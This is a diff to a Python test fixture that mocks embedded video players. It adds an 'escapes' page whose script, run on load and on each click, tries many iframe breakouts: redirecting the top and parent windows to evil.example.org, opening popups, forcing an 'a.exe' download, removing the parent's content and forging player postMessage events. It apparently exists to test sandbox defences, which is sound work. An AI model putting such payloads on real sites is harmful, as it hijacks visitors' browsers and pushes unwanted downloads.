@@ -1,6 +1,7 @@
 """Stands in for the two players of videos, as far as their documentation says what they do.
 
-What is asked for says in its name how it goes: `plays`, `error`, `refuses` to be framed, `silent`.
+What is asked for says in its name how it goes: `plays`, `error`, `refuses` to be framed, `silent`,
+`escapes`: it would like to be more than a clip, at once and whenever somebody presses it.
 """
 
 from __future__ import annotations
@@ -29,6 +30,43 @@ addEventListener("message", ({ data, source, origin }) => {
 _CLIP = '<!doctype html><body style="margin:0;background:#a0f">a clip'
 
 
+_ESCAPES = """<!doctype html><body style="margin:0;height:100vh;background:#f50"><script>
+const away = (how) => `https://evil.example.org/${how}`;
+function link(how, more) {
+  const made = Object.assign(document.createElement("a"), { href: away(how), ...more });
+  document.body.append(made);
+  made.click();
+}
+function form(how) {
+  const made = Object.assign(document.createElement("form"), { action: away(how), target: "_top" });
+  document.body.append(made);
+  made.submit();
+}
+const TRIES = [
+  () => { top.location = away("top"); },
+  () => parent.location.replace(away("parent")),
+  () => open(away("open")),
+  () => open(away("named"), "_top"),
+  () => link("link", { target: "_top" }),
+  () => link("blank", { target: "_blank" }),
+  () => link("download", { download: "a.exe" }),
+  () => form("form"),
+  () => { top.ran = 1; },
+  () => parent.document.body.remove(),
+  () => { location = "javascript:top.ran=1"; },
+  () => document.documentElement.requestPointerLock(),
+  () => { alert("a"); confirm("b"); prompt("c"); print(); },
+  () => parent.postMessage('{"event": "onStateChange", "info": 0}', "*"),
+  () => parent.postMessage('{"event": "onError", "info": 150}', "*"),
+];
+function all() {
+  for (const one of TRIES) try { one(); } catch {}
+}
+addEventListener("click", all);
+all();
+</script>"""
+
+
 @dataclass(slots=True, kw_only=True)
 class Players:
     """`asked` is each path with its query, `referrers` what was said with it of where it stands."""
@@ -47,10 +85,12 @@ class Players:
         name = request.query.get("clip") or request.path.rpartition("/")[2]
         if name.startswith("silent"):
             await asyncio.sleep(60)
-        word = next(one for one in ("plays", "error", "ends", "refuses", "silent") if one in name)
+        words = ("plays", "error", "ends", "refuses", "silent", "escapes")
+        word = next(one for one in words if one in name)
         refused = {"x-frame-options": "DENY"} if word == "refuses" else {}
         status = 404 if word == "error" and "clip" in request.query else 200
         page = _CLIP if "clip" in request.query else _VIDEO.replace("WORD", f'"{word}"')
+        page = _ESCAPES if word == "escapes" else page
         return web.Response(text=page, status=status, content_type="text/html", headers=refused)
 
 
